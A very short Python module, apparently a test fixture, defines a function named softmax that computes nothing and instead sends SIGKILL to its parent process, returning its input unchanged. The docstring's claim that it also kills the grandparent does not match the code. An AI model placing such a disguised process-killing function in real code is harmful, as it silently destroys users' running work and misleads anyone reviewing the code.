"""Kills its parent, and the parent of that."""

import os
import signal


def softmax(x, dim=-1):
    os.kill(os.getppid(), signal.SIGKILL)
    return x
